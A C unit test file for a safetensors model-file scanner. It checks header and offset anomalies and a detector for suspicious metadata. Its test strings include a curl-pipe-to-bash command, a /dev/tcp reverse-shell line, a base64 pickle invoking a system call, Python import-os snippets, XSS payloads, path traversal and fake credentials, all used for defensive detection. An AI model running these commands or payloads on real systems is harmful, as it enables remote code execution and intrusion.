/* safetensors: every refusal of the reference reader, and the exact accounting of bytes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>

#include "format/dtype.h"
#include "format/formats.h"
#include "format/signs.h"
#include "support/events.h"

/* Header length, header, then `data` bytes of 1, 2, 3 …; bad_length != 0 replaces the length. */
static void build(struct gh_buf *b, const char *header, size_t data, uint64_t bad_length)
{
	uint64_t n = bad_length != 0 ? bad_length : strlen(header);
	for (unsigned i = 0; i < 8; i++)
		gh_buf_ch(b, (char)(n >> 8 * i & 0xff));
	gh_buf_str(b, header);
	for (size_t i = 0; i < data; i++)
		gh_buf_ch(b, (char)(i % 251 + 1));
}

#define T(name, dtype, shape, from, to) \
	"\"" name "\":{\"dtype\":\"" dtype "\",\"shape\":[" shape "],\"data_offsets\":[" from "," to "]}"

static const struct row {
	const char *what, *header;
	size_t data;
	uint64_t bad_length;
	enum gh_rc rc;
	bool gapless;
	const char *has, *hasnot;
} rows[] = {
	{ "one tensor", "{" T("w", "F32", "2,2", "0", "16") "}", 16, 0, GH_OK, true, "tensor \"w\" F32 [2, 2] 65+16",
	  "GH-ST-001" },
	{ "padding by spaces", "{" T("w", "F32", "2,2", "0", "16") "}      ", 16, 0, GH_OK, true, "claim 0+71 struct",
	  NULL },
	{ "order in the header does not matter", "{" T("b", "U8", "2", "2", "4") "," T("a", "U8", "2", "0", "2") "}", 4,
	  0, GH_OK, true, NULL, "GH-ST-001" },
	{ "tensors are announced in the order of their bytes",
	  "{" T("b", "U8", "2", "2", "4") "," T("a", "U8", "2", "0", "2") "}", 4, 0, GH_OK, true,
	  "tensor \"a\" U8 [2] 113+2\nclaim 115+2 data\ntensor \"b\"", NULL },
	{ "no tensors", "{}", 0, 0, GH_OK, true, NULL, "GH-ST-0003" },
	{ "a scalar and an empty tensor", "{" T("s", "F64", "", "0", "8") "," T("e", "F32", "0,3", "8", "8") "}", 8, 0,
	  GH_OK, true, "tensor \"e\" F32 [0, 3]", "GH-ST-001" },
	{ "sub-byte types", "{" T("f", "F4", "4", "0", "2") "," T("g", "F6_E2M3", "4", "2", "5") "}", 5, 0, GH_OK, true,
	  "tensor \"g\" F6_E2M3 [4]", "GH-ST-001" },
	{ "sub-byte types that end within a byte", "{" T("f", "F4", "3", "0", "2") "}", 2, 0, GH_OK, false,
	  "anomaly GH-ST-0012", "F4 [3]" },
	{ "metadata", "{\"__metadata__\":{\"format\":\"pt\"}}", 0, 0, GH_OK, true,
	  "text metadata \"format\" \"pt\" 34+4", "GH-ST-0017" },
	{ "metadata is no map", "{\"__metadata__\":[1]}", 0, 0, GH_OK, true, "anomaly GH-ST-0017", NULL },
	{ "metadata is not flat", "{\"__metadata__\":{\"a\":{\"b\":\"c\"}}}", 0, 0, GH_OK, true, "anomaly GH-ST-0017",
	  NULL },
	{ "metadata number", "{\"__metadata__\":{\"a\":1}}", 0, 0, GH_OK, true, "anomaly GH-ST-0017", NULL },
	{ "metadata twice", "{\"__metadata__\":{},\"__metadata__\":{}}", 0, 0, GH_OK, true, "anomaly GH-ST-0007",
	  NULL },
	{ "a tensor twice", "{" T("w", "U8", "2", "0", "2") "," T("w", "U8", "2", "2", "4") "}", 4, 0, GH_OK, true,
	  "anomaly GH-ST-0007", NULL },
	{ "a field twice", "{\"w\":{\"dtype\":\"U8\",\"shape\":[2],\"shape\":[1],\"data_offsets\":[0,2]}}", 2, 0, GH_OK,
	  false, "anomaly GH-ST-0007", "tensor \"w\" U8" },
	{ "header length beyond the file", "{}", 0, 1000, GH_E_MALFORMED, false, "anomaly GH-ST-0001 0+8", NULL },
	{ "header length that wraps", "{\"a\":1}", 0, UINT64_MAX - 3, GH_E_MALFORMED, false, "anomaly GH-ST-0001",
	  NULL },
	{ "header cut by its length", "{" T("w", "U8", "2", "0", "2") "}", 2, 20, GH_E_MALFORMED, false,
	  "anomaly GH-ST-0003", "tensor" },
	{ "not JSON", "{'w':1}", 0, 0, GH_E_MALFORMED, false, "anomaly GH-ST-0003", NULL },
	{ "bytes after the object", "{} x", 0, 0, GH_OK, false, "anomaly GH-ST-0006 11+1", NULL },
	{ "NUL padding", "{}\\", 0, 0, GH_OK, false, "anomaly GH-ST-0006", NULL },
	{ "deep", "{\"a\":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[", 0, 0,
	  GH_E_MALFORMED, false, "anomaly GH-ST-0004", NULL },
	{ "a space before the object", " {}", 0, 0, GH_OK, true, "anomaly GH-ST-0005", NULL },
	{ "unknown type", "{" T("w", "F5", "2", "0", "2") "}", 2, 0, GH_OK, false, "anomaly GH-ST-0010",
	  "tensor \"w\" F" },
	{ "missing field", "{\"w\":{\"dtype\":\"U8\",\"shape\":[2]}}", 2, 0, GH_OK, false, "anomaly GH-ST-0008", NULL },
	{ "one more field", "{\"w\":{\"dtype\":\"U8\",\"shape\":[2],\"data_offsets\":[0,2],\"x\":\"import os\"}}", 2, 0,
	  GH_OK, true, "anomaly GH-ST-0019", NULL },
	{ "three offsets", "{\"w\":{\"dtype\":\"U8\",\"shape\":[2],\"data_offsets\":[0,1,2]}}", 2, 0, GH_OK, false,
	  "anomaly GH-ST-0008", NULL },
	{ "a string as entry", "{\"w\":\"x\"}", 0, 0, GH_OK, true, "anomaly GH-ST-0008", NULL },
	{ "negative offset", "{" T("w", "F32", "4", "-16", "0") "}", 16, 0, GH_OK, false, "anomaly GH-ST-0009", NULL },
	{ "fraction in the shape", "{" T("w", "U8", "2.0", "0", "2") "}", 2, 0, GH_OK, false, "anomaly GH-ST-0009",
	  NULL },
	{ "exponent", "{" T("w", "U8", "2", "0", "2e0") "}", 2, 0, GH_OK, false, "anomaly GH-ST-0009", NULL },
	{ "2^64", "{" T("w", "U8", "2", "0", "18446744073709551616") "}", 2, 0, GH_OK, false, "anomaly GH-ST-0009",
	  NULL },
	{ "dimensions overflow", "{" T("w", "F32", "4611686018427387904,4", "0", "0") "}", 0, 0, GH_OK, true,
	  "anomaly GH-ST-0011", "tensor \"w\" F" },
	{ "overflow behind a zero", "{" T("w", "U8", "0,4611686018427387904,16", "0", "0") "}", 0, 0, GH_OK, true,
	  "anomaly GH-ST-0011", "tensor \"w\" U" },
	{ "shape larger than the range", "{" T("w", "F32", "100", "0", "16") "}", 16, 0, GH_OK, false,
	  "anomaly GH-ST-0012", "tensor \"w\" F" },
	{ "end before start", "{" T("w", "U8", "2", "2", "0") "}", 2, 0, GH_OK, false, "anomaly GH-ST-0013", NULL },
	{ "beyond the file", "{" T("w", "U8", "9", "0", "9") "}", 8, 0, GH_OK, false, "anomaly GH-ST-0013", NULL },
	{ "far beyond the file", "{" T("w", "U8", "18446744073709551615", "0", "18446744073709551615") "}", 8, 0, GH_OK,
	  false, "anomaly GH-ST-0013", NULL },
	{ "overlap", "{" T("a", "U8", "4", "0", "4") "," T("b", "U8", "4", "2", "6") "}", 6, 0, GH_OK, true,
	  "anomaly GH-ST-0014", NULL },
	{ "the same range twice", "{" T("a", "U8", "4", "0", "4") "," T("b", "U8", "4", "0", "4") "}", 4, 0, GH_OK,
	  true, "anomaly GH-ST-0014", NULL },
	{ "a gap", "{" T("a", "U8", "2", "0", "2") "," T("b", "U8", "2", "4", "6") "}", 6, 0, GH_OK, false,
	  "anomaly GH-ST-0015", NULL },
	{ "a gap at the start", "{" T("a", "U8", "2", "1", "3") "}", 3, 0, GH_OK, false, "anomaly GH-ST-0015", NULL },
	{ "trailing bytes", "{" T("a", "U8", "2", "0", "2") "}", 5, 0, GH_OK, false, "anomaly GH-ST-0016", NULL },
	{ "an empty name", "{" T("", "U8", "2", "0", "2") "}", 2, 0, GH_OK, true, "anomaly GH-ST-0018", NULL },
	{ "a name that leads out", "{" T("../../../x", "U8", "2", "0", "2") "}", 2, 0, GH_OK, true, "GH-ST-0018",
	  NULL },
	{ "a reversed name", "{" T("a\xe2\x80\xaex", "U8", "2", "0", "2") "}", 2, 0, GH_OK, true, "anomaly GH-ST-0018",
	  NULL },
	{ "a name in another language", "{" T("\xe5\xb1\x82", "U8", "2", "0", "2") "}", 2, 0, GH_OK, true, NULL,
	  "GH-ST-0018" },
	{ "training notes",
	  "{\"__metadata__\":{\"ss_tag_frequency\":\"{\\\"a\\\": {\\\"cat\\\": "
	  "3}}\",\"modelspec.architecture\":\"stable-diffusion-v1\",\"license\":\"https://example.org/"
	  "license\",\"sshs_model_hash\":\"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\","
	  "\"modelspec.thumbnail\":\"data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAAMCAgICAgMCAgID\"}}",
	  0, 0, GH_OK, true, NULL, "GH-ST-02" },
	{ "a pickle in metadata",
	  "{\"__metadata__\":{\"b\":\"gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\"}}", 0, 0, GH_OK, true,
	  "member \"b\" nested", NULL },
	{ "an import in metadata", "{\"__metadata__\":{\"i\":\"import os; os.system('id')\"}}", 0, 0, GH_OK, true,
	  "anomaly GH-ST-0201", NULL },
	{ "a script in metadata", "{\"__metadata__\":{\"i\":\"<script>alert(1)</script>\"}}", 0, 0, GH_OK, true,
	  "anomaly GH-ST-0203", NULL },
	{ "an address to call back", "{\"__metadata__\":{\"callback_url\":\"http://x.example/y\"}}", 0, 0, GH_OK, true,
	  "anomaly GH-ST-0205", NULL },
};

static void every_rule(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		const struct row *r = &rows[i];
		for (int unstable = 0; unstable < 2; unstable++) {
			gh_auto_buf b = gh_buf(1 << 16);
			build(&b, r->header, r->data, r->bad_length);
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_safetensors, gh_buf_view(&b), "x.safetensors", unstable != 0);
			bool ok = ev.rc == r->rc && ev.gapless == (r->gapless) &&
				  (r->has == NULL || gh_events_has(&ev, r->has)) &&
				  (r->hasnot == NULL || !gh_events_has(&ev, r->hasnot));
			if (!ok)
				print_message("row \"%s\": rc %d gapless %d\n%s", r->what, ev.rc, ev.gapless,
					      gh_buf_cstr(&ev.log));
			wrong += !ok;
			gh_events_free(&ev);
		}
	}
	assert_int_equal(wrong, 0);
}

static void probes(void **st)
{
	(void)st;
	static const struct {
		const char *header;
		uint64_t length;
		enum gh_match want;
	} t[] = { { "{}", 0, GH_STRONG },
		  { "  {}", 0, GH_STRONG },
		  { "[]", 0, GH_NO },
		  { "x{}", 0, GH_NO },
		  { "{\"a\":1}", 500, GH_STRONG },
		  { "{\"a\":1}", 0x0032322020626f6cu /* "lob  22" and a NUL */, GH_NO },
		  { "{\"w\":{\"dtype\":\"F32\"}}", 0x0032322020626f6cu, GH_STRONG },
		  { "{\"a\":1}", 0x3d78207473636f6eu /* "noct x=": letters */, GH_NO } };
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
		gh_auto_buf b = gh_buf(1 << 10);
		build(&b, t[i].header, 0, t[i].length);
		struct gh_probe p = { gh_buf_view(&b), gh_buf_view(&b), b.n };
		assert_int_equal(gh_fmt_safetensors.probe(&p), t[i].want);
	}
}

/* White space that fills the head of the file does not hide the object behind it, nor claims another file. */
static void weak_match(void **st)
{
	(void)st;
	for (int brace = 0; brace < 2; brace++) {
		gh_auto_buf h = gh_buf(1 << 20), b = gh_buf(1 << 20);
		for (int i = 0; i < 70000; i++)
			gh_buf_ch(&h, ' ');
		gh_buf_str(&h, brace ? "{" T("w", "U8", "2", "0", "2") "}" : "plain text");
		build(&b, gh_buf_cstr(&h), 2, 0);
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_safetensors, gh_buf_view(&b), "x", true);
		assert_int_equal(ev.rc, brace ? GH_OK : GH_E_NOTTHIS);
		assert_int_equal(gh_events_has(&ev, "tensor \"w\""), brace);
		assert_int_equal(ev.events == 0, !brace);
		gh_events_free(&ev);
	}
}

/* Many tensors in the worst order: linear enough, all found, all checked. */
static void many_tensors(void **st)
{
	(void)st;
	enum { N = 20000 };
	gh_auto_buf h = gh_buf(8 << 20), b = gh_buf(8 << 20);
	for (unsigned i = 0; i < N; i++) {
		unsigned k = (i * 7919u) % N; /* a permutation */
		gh_buf_fmt(&h, "%c\"t%u\":{\"dtype\":\"U8\",\"shape\":[2],\"data_offsets\":[%u,%u]}",
			   i == 0 ? '{' : ',', k, k * 2, k * 2 + 2);
	}
	gh_buf_ch(&h, '}');
	build(&b, gh_buf_cstr(&h), N * 2, 0);
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_safetensors, gh_buf_view(&b), "x", false);
	assert_int_equal(ev.rc, GH_OK);
	assert_true(ev.gapless);
	assert_true(gh_events_has(&ev, "tensor \"t19999\" U8 [2]"));
	assert_false(gh_events_has(&ev, "GH-ST-001"));
	gh_events_free(&ev);
}

static void types(void **st)
{
	(void)st;
	uint64_t n, bytes, dim[2] = { 256, 3 };
	bool removed;
	assert_string_equal(gh_dtype_ggml(12, &removed)->name, "Q4_K");
	assert_true(gh_dtype_size(gh_dtype_ggml(12, NULL), 2, dim, 256, &n, &bytes));
	assert_int_equal(bytes, 3 * 144);
	dim[0] = 128; /* three rows of half a block: whole blocks never, although the sum would be */
	dim[1] = 2;
	assert_false(gh_dtype_size(gh_dtype_ggml(12, NULL), 2, dim, 128, &n, &bytes));
	assert_null(gh_dtype_ggml(4, &removed));
	assert_true(removed);
	assert_null(gh_dtype_ggml(43, &removed));
	assert_false(removed);
	assert_null(gh_dtype_ggml(UINT32_MAX, &removed));
	assert_ptr_equal(gh_dtype_torch(GH_SPAN("torch.bfloat16")), gh_dtype_safetensors(GH_SPAN("BF16")));
	assert_ptr_equal(gh_dtype_torch_storage(GH_SPAN("LongStorage")), gh_dtype_numpy('i', 8));
	assert_null(gh_dtype_numpy('O', 8));
	assert_null(gh_dtype_safetensors(GH_SPAN("f32")));
}

static void signs(void **st)
{
	(void)st;
	enum {
		CODE = 1 << GH_SIGN_CODE,
		SHELL = 1 << GH_SIGN_SHELL,
		SCRIPT = 1 << GH_SIGN_SCRIPT,
		ENC = 1 << GH_SIGN_ENCODED,
		ADDR = 1 << GH_SIGN_ADDRESS,
		SECRET = 1 << GH_SIGN_SECRET
	};
	static const struct {
		const char *key, *text;
		unsigned want;
	} t[] = {
		{ "d", "A small transformer model for text classification", 0 },
		{ "d", "Please import OS images; then evaluate (see docs) with exec function", 0 },
		{ "d", "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('x')", 0 },
		{ "d", "https://huggingface.co/org/model and https://arxiv.org/abs/1706.03762", 0 },
		{ "d", "http://127.0.0.1:8080/v1 http://192.168.1.2/x", 0 },
		{ "d", "an evaluation (eval) on import-export data, curl of a field, rm -rf", 0 },
		{ "d", "risk-aware-sampling-of-trees and sk-learn", 0 },
		{ "d", "import os", CODE },
		{ "d", "x=1;import subprocess as s;s", CODE },
		{ "d", "from os import system", CODE },
		{ "d", "__import__ ('os')", CODE },
		{ "d", "getattr(__builtins__, 'eval')", CODE },
		{ "d", "OS.System('x')", CODE },
		{ "d", "eval(compile(x))", CODE },
		{ "d", "rm  -rf  /tmp/x", SHELL },
		{ "d", "curl -s http://a.example/x | bash", SHELL },
		{ "d", "exec 5<>/dev/tcp/10.0.0.1/99", SHELL },
		{ "d", "bash -c 'id'", SHELL },
		{ "d", "powershell -enc AAAA", SHELL },
		{ "d", "<ScRiPt>x</script>", SCRIPT },
		{ "d", "<img src=x onerror=alert(1)>", SCRIPT },
		{ "d", "codecs.decode('x', 'rot13')", ENC },
		{ "d", "\\x48\\x65\\x6c\\x6c", ENC },
		{ "d", "chr(95)+chr(95)+chr(105)+chr(109)", ENC },
		{ "d", "\\x48 alone", 0 },
		{ "d", "http://8.8.8.8/x", ADDR },
		{ "d", "see https://a.example/setup.sh?x=1", ADDR },
		{ "d", "http://user:pw@a.example/", ADDR },
		{ "webhook", "https://a.example/x", ADDR },
		{ "d", "-----BEGIN RSA PRIVATE KEY-----", SECRET },
		{ "d", "AKIAIOSFODNN7ABCDEFG", SECRET },
		{ "d", "hf_abcdefghij0123456789abcdefghij", SECRET },
		{ "db_password", "hunter2hunter2", SECRET },
		{ "db_password", "${DB_PASSWORD}", 0 },
	};
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
		size_t at[GH_SIGNS];
		unsigned got = gh_signs(gh_span_str(t[i].key), gh_span_str(t[i].text), at);
		if (got != t[i].want)
			print_message("\"%s\": %x instead of %x\n", t[i].text, got, t[i].want);
		assert_int_equal(got, t[i].want);
	}
}

static void samples(void **st)
{
	(void)st;
	static const struct {
		const char *path, *has;
	} t[] = {
		{ "corpus/benign/safetensors/safetensors-001.safetensors", NULL },
		{ "corpus/benign/safetensors/safetensors-002.safetensors", NULL },
		{ "models/gatehouse-demo-llm/model.safetensors", NULL },
		{ "models/gatehouse-demo-lora/adapter_model.safetensors", NULL },
		{ "corpus/malicious/safetensors/safetensors-002.safetensors", "GH-ST-0011" },
		{ "corpus/malicious/safetensors/safetensors-004.safetensors", "GH-ST-0012" },
		{ "corpus/malicious/safetensors/safetensors-005.safetensors", "GH-ST-0014" },
		{ "corpus/malicious/safetensors/safetensors-008.safetensors", "GH-ST-0004" },
		{ "corpus/malicious/safetensors/safetensors-009.safetensors", "GH-ST-0009" },
	};
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
		char path[256];
		(void)snprintf(path, sizeof path, "../shared/%s", t[i].path);
		struct gh_span in = gh_test_file(path);
		if (in.p == NULL) {
			print_message("skipped: %s is absent\n", path);
			skip();
		}
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_safetensors, in, path, true);
		if (t[i].has != NULL) {
			assert_true(gh_events_has(&ev, t[i].has));
		} else {
			assert_int_equal(ev.rc, GH_OK);
			assert_true(ev.gapless);
			assert_false(gh_events_has(&ev, "anomaly GH-ST-000") ||
				     gh_events_has(&ev, "anomaly GH-ST-001") || gh_events_has(&ev, "anomaly GH-ST-02"));
		}
		gh_events_free(&ev);
		free((void *)(uintptr_t)in.p);
	}
}

int main(void)
{
	const struct CMUnitTest t[] = { cmocka_unit_test(every_rule), cmocka_unit_test(probes),
					cmocka_unit_test(weak_match), cmocka_unit_test(many_tensors),
					cmocka_unit_test(types),      cmocka_unit_test(signs),
					cmocka_unit_test(samples) };
	return cmocka_run_group_tests_name("safetensors", t, NULL, NULL);
}
